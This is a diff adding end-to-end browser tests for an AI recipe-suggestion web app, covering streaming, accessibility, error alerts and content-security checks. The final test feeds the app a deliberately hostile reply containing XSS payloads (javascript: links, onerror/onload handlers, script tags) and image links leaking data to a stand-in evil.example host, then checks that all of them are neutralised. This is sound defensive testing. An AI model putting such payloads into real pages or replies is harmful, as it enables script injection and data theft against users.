@@ -1,0 +1,143 @@
+import type { Browser } from "playwright-core";
+import { afterAll, afterEach, beforeAll, expect, test } from "vitest";
+import { errorMessage } from "../../src/core/errors.ts";
+import { DEFAULT_RECIPE, startFakeUpstream, type FakeUpstream } from "../fake-upstream.ts";
+import { addIngredients, expectAccessible, launchBrowser, openPage, startServer, type Served, type Watched } from "./harness.ts";
+
+let upstream: FakeUpstream;
+let server: Served;
+let browser: Browser;
+const opened: Watched[] = [];
+
+beforeAll(async () => {
+  upstream = await startFakeUpstream();
+  server = await startServer({ AI_CHEF_BASE_URL: upstream.url, AI_CHEF_MODEL: "test/chef-model", AI_CHEF_RATE_LIMIT: "1000" });
+  browser = await launchBrowser();
+});
+afterEach(async () => {
+  for (const watched of opened.splice(0)) {
+    expect(watched.cspViolations, "CSP violations").toEqual([]);
+    expect(watched.foreignRequests, "requests leaving the page's origin").toEqual([]);
+    await watched.context.close();
+  }
+  upstream.requests.length = 0;
+  upstream.setDefault({ kind: "stream", text: DEFAULT_RECIPE });
+});
+afterAll(async () => {
+  await browser?.close();
+  await server?.stop();
+  await upstream?.close();
+});
+
+async function open(options?: Parameters<typeof openPage>[2]) {
+  const watched = await openPage(browser, server.origin, options);
+  opened.push(watched);
+  return watched;
+}
+
+const LONG_RECIPE = `${DEFAULT_RECIPE}\n## Notes\n\n${"Season to taste and serve warm. ".repeat(60)}\n\n| Step | Minutes |\n| --- | --- |\n| Prep | 5 |\n| Cook | 10 |\n\n\`\`\`\nkeep it simple\n\`\`\`\n`;
+
+for (const colorScheme of ["light", "dark"] as const) {
+  test(`the whole flow works and stays accessible (${colorScheme})`, async () => {
+    upstream.queue({ kind: "stream", text: LONG_RECIPE, chunkSize: 40, delayMs: 15 });
+    const { page, consoleErrors } = await open({ colorScheme });
+    await expectAccessible(page, "empty");
+    await expect.poll(() => page.getByText("Recipes written by test/chef-model").count()).toBe(1);
+
+    await addIngredients(page, ["  eggs ", "spinach", "feta"]);
+    await expect.poll(() => page.getByRole("listitem").allTextContents()).toEqual(["eggs", "spinach", "feta"]);
+    expect(await page.getByRole("button", { name: "Get a recipe" }).count()).toBe(0);
+    await expectAccessible(page, "three ingredients");
+
+    await addIngredients(page, ["EGGS", ""]);
+    expect(await page.getByRole("listitem").count()).toBe(3);
+    await expectAccessible(page, "refused input");
+
+    await addIngredients(page, ["onion"]);
+    await expect.poll(() => page.getByRole("listitem").count()).toBe(4);
+    await expectAccessible(page, "call to action");
+
+    await page.getByRole("button", { name: "Get a recipe" }).click();
+    const panel = page.getByRole("region", { name: "Chef recommends" });
+    await panel.getByRole("heading", { name: "Spinach and Feta Omelette" }).waitFor();
+    await expectAccessible(page, "streaming");
+    await expect.poll(() => panel.getAttribute("aria-busy"), { timeout: 15_000 }).toBe("false");
+    expect(await panel.getByRole("table").count()).toBe(1);
+    expect(await panel.locator("pre code").textContent()).toContain("keep it simple");
+    expect(await page.getByRole("button", { name: "Get a recipe" }).isEnabled()).toBe(true);
+    await expectAccessible(page, "recipe shown");
+    expect(consoleErrors).toEqual([]);
+  });
+}
+
+test("the reply streams in: text shows while the upstream is still sending", async () => {
+  upstream.queue({ kind: "stream", text: LONG_RECIPE, chunkSize: 20, delayMs: 40 });
+  const { page } = await open();
+  await addIngredients(page, ["eggs", "spinach", "feta", "onion"]);
+  await page.getByRole("button", { name: "Get a recipe" }).click();
+  await page.getByRole("heading", { name: "Spinach and Feta Omelette" }).waitFor();
+  expect(upstream.requests[0]?.finished).toBe(false);
+  expect(await page.getByRole("button", { name: "Get a recipe" }).isDisabled()).toBe(true);
+});
+
+test("when the recipe arrives the page scrolls to the ingredients panel", async () => {
+  for (const reducedMotion of ["no-preference", "reduce"] as const) {
+    const { page } = await open({ reducedMotion, viewport: { width: 400, height: 500 } });
+    // Room above the list, so scrolling to it is visible (set through the CSSOM, which the CSP allows).
+    await page.evaluate(() => document.querySelector("main")?.style.setProperty("padding-top", "1500px"));
+    await addIngredients(page, ["eggs", "spinach", "feta", "onion"]);
+    await page.evaluate(() => window.scrollTo(0, 0));
+    const panelTop = () => page.evaluate(() => document.querySelector(".ingredients-panel")?.getBoundingClientRect().top ?? -1);
+    expect(await panelTop()).toBeGreaterThan(500);
+    await page.getByRole("button", { name: "Get a recipe" }).click();
+    await page.getByRole("region", { name: "Chef recommends" }).waitFor();
+    await expect.poll(panelTop, { timeout: 5000 }).toBeLessThan(40);
+    expect(await panelTop()).toBeGreaterThanOrEqual(0);
+  }
+});
+
+test("upstream failures show an alert in plain words and keep the list", async () => {
+  const { page } = await open();
+  await addIngredients(page, ["eggs", "spinach", "feta", "onion"]);
+  for (const [behaviour, code] of [
+    [{ kind: "status", status: 401 }, "bad_credentials"],
+    [{ kind: "status", status: 402 }, "out_of_credits"],
+    [{ kind: "status", status: 404 }, "model_unavailable"],
+  ] as const) {
+    upstream.queue(behaviour);
+    await page.getByRole("button", { name: "Get a recipe" }).click();
+    await expect.poll(() => page.getByRole("alert").textContent()).toContain(errorMessage(code));
+    expect(await page.getByRole("region", { name: "Chef recommends" }).count()).toBe(0);
+    expect(await page.getByRole("listitem").allTextContents()).toEqual(["eggs", "spinach", "feta", "onion"]);
+    await expectAccessible(page, `error ${code}`);
+  }
+});
+
+test("a hostile reply cannot run script, leave the page or fetch images", async () => {
+  upstream.queue({
+    kind: "stream",
+    text: [
+      "# Totally a recipe",
+      "[click](javascript:window.__pwned=1) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+      "",
+      "![x](https://evil.example/leak?eggs) ![y](//evil.example/y.png)",
+      "",
+      '<img src=x onerror="window.__pwned=1"> <script>window.__pwned=1</script> <svg onload="window.__pwned=1"></svg>',
+      "",
+      "[ok](https://example.com)",
+    ].join("\n"),
+  });
+  const { page } = await open();
+  await addIngredients(page, ["eggs", "spinach", "feta", "onion"]);
+  await page.getByRole("button", { name: "Get a recipe" }).click();
+  const panel = page.getByRole("region", { name: "Chef recommends" });
+  await panel.getByRole("link", { name: "ok" }).waitFor();
+  await page.getByText("click", { exact: true }).click();
+  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
+  expect(await panel.locator("img, script, svg, iframe").count()).toBe(0);
+  const handlers = await panel.evaluate((root) =>
+    [...root.querySelectorAll("*")].flatMap((element) => [...element.attributes].map((a) => a.name)).filter((name) => name.startsWith("on")),
+  );
+  expect(handlers).toEqual([]);
+  expect(await panel.getByRole("link").count()).toBe(1);
+});
